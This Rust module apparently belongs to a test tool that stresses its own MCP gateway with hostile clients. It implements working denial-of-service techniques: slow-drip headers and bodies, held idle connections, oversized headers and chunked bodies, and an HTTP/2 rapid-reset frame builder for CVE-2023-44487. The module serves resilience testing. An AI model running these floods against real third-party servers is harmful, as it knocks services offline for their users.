//! Clients that do harm. Some hold connections, some make a number of them each second: at a fixed
//! rate, because they share the processors with the gateway, which any client could use up for it.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use clap::ValueEnum as _;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval, sleep, timeout};

use crate::connection::Connection;
use crate::error::Error;
use crate::request::{self, Form};

/// Between two bytes of a client that drips.
const DRIP: Duration = Duration::from_secs(1);
/// How long one connection of a flood may last.
const ASSAULT: Duration = Duration::from_secs(10);
/// What one connection of a flood sends each millisecond: a gigabit a second. Over loopback it would
/// be ten times as fast as any network brings it, at the expense of the processors that all share.
const PIECE: usize = 128 * 1024;
/// Streams that each connection of the rapid reset opens and resets.
const STREAMS: u32 = 1_000;

/// What they do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Attack {
    /// Connections that send the head of a request a byte a second
    SlowHeads,
    /// Connections that send the body of a request a byte a second
    SlowBodies,
    /// Connections that had an answer and ask for nothing more
    Idle,
    /// Requests with a head of 100 KiB
    LargeHeads,
    /// Requests with a body of 17 MiB, whose length they do not say
    LargeBodies,
    /// HTTP/2 connections that open 1,000 streams and reset each at once
    RapidReset,
}

impl Attack {
    /// How the command line says it.
    pub(crate) fn name(self) -> String {
        self.to_possible_value().map(|value| value.get_name().to_owned()).unwrap_or_default()
    }

    /// Whether connections are held; otherwise so many are made each second.
    pub(crate) fn holds(self) -> bool {
        matches!(self, Self::SlowHeads | Self::SlowBodies | Self::Idle)
    }

    /// Begins; it goes on until the tasks are dropped.
    pub(crate) async fn begin(
        self,
        gateway: SocketAddr,
        connections: u32,
    ) -> Result<JoinSet<()>, Error> {
        let whole = Bytes::from(request::mcp(gateway, Form::Modern, "tools/list", None, json!({})));
        let mut attackers = JoinSet::new();
        match self {
            Self::SlowHeads | Self::SlowBodies => {
                let at_once = if self == Self::SlowHeads { 20 } else { whole.len() - 100 };
                for _ in 0..connections {
                    let stream = TcpStream::connect(gateway).await?;
                    attackers.spawn(drip(gateway, stream, whole.clone(), at_once));
                }
            }
            Self::Idle => {
                let probe = request::get(gateway, "/healthz", &[]);
                for _ in 0..connections {
                    let mut connection = Connection::open(gateway).await?;
                    connection.ask(&probe).await?;
                    attackers.spawn(async move {
                        std::future::pending::<()>().await;
                        drop(connection);
                    });
                }
            }
            Self::LargeHeads => {
                let padding = ("x-padding", &*"x".repeat(100 * 1024));
                let request = request::get(gateway, "/", &[padding]);
                attackers.spawn(flood(gateway, connections, request.into()));
            }
            Self::LargeBodies => {
                attackers.spawn(flood(gateway, connections, large_body(&whole)));
            }
            Self::RapidReset => {
                attackers.spawn(flood(gateway, connections, rapid_reset().into()));
            }
        }
        Ok(attackers)
    }
}

/// Sends some of a request at once and the rest a byte at a time, again and again.
async fn drip(gateway: SocketAddr, mut stream: TcpStream, request: Bytes, at_once: usize) {
    loop {
        let (first, rest) = request.split_at_checked(at_once).unwrap_or_default();
        let mut going_on = stream.write_all(first).await.is_ok();
        for byte in rest {
            sleep(DRIP).await;
            going_on = going_on && stream.write_all(&[*byte]).await.is_ok();
            if !going_on {
                break;
            }
        }
        match TcpStream::connect(gateway).await {
            Ok(next) => stream = next,
            Err(_) => sleep(DRIP).await,
        }
    }
}

/// Makes connections at a steady rate, each of which sends these bytes and reads what comes back.
async fn flood(gateway: SocketAddr, per_second: u32, bytes: Bytes) {
    let mut due = interval(Duration::from_secs(1) / per_second.max(1));
    due.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut assaults = JoinSet::new();
    loop {
        due.tick().await;
        while assaults.try_join_next().is_some() {}
        assaults.spawn(timeout(ASSAULT, assault(gateway, bytes.clone())));
    }
}

/// A peer that closes on the way does what is hoped for, so no error counts.
async fn assault(gateway: SocketAddr, bytes: Bytes) {
    let Ok(mut stream) = TcpStream::connect(gateway).await else { return };
    let (mut reader, mut writer) = stream.split();
    let mut answer = [0; 4096];
    let read = async { while let Ok(1..) = reader.read(&mut answer).await {} };
    let write = async {
        let mut due = interval(Duration::from_millis(1));
        for piece in bytes.chunks(PIECE) {
            due.tick().await;
            if writer.write_all(piece).await.is_err() {
                break;
            }
        }
        std::future::pending::<()>().await;
    };
    tokio::select! {
        () = read => {}
        () = write => {}
    }
}

/// A request whose body is one chunk of 17 MiB.
fn large_body(request: &Bytes) -> Bytes {
    const LENGTH: usize = 17 * 1024 * 1024;
    let text = String::from_utf8_lossy(request);
    let head = text.split("content-length").next().unwrap_or_default();
    let mut whole = format!("{head}transfer-encoding: chunked\r\n\r\n{LENGTH:x}\r\n").into_bytes();
    whole.resize(whole.len() + LENGTH, b' ');
    whole.into()
}

/// HTTP/2 frames (RFC 9113): the preface, empty `SETTINGS`, then `GET /` and its `RST_STREAM` over and
/// over (CVE-2023-44487).
fn rapid_reset() -> Vec<u8> {
    let mut wire = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
    for stream in (0..STREAMS).map(|number| (2 * number + 1).to_be_bytes()) {
        let headers = b"\x82\x86\x84\x01\x09localhost";
        wire.extend_from_slice(&[0, 0, 14, 1, 5]);
        wire.extend_from_slice(&stream);
        wire.extend_from_slice(headers);
        wire.extend_from_slice(&[0, 0, 4, 3, 0]);
        wire.extend_from_slice(&stream);
        wire.extend_from_slice(&[0, 0, 0, 8]);
    }
    wire
}
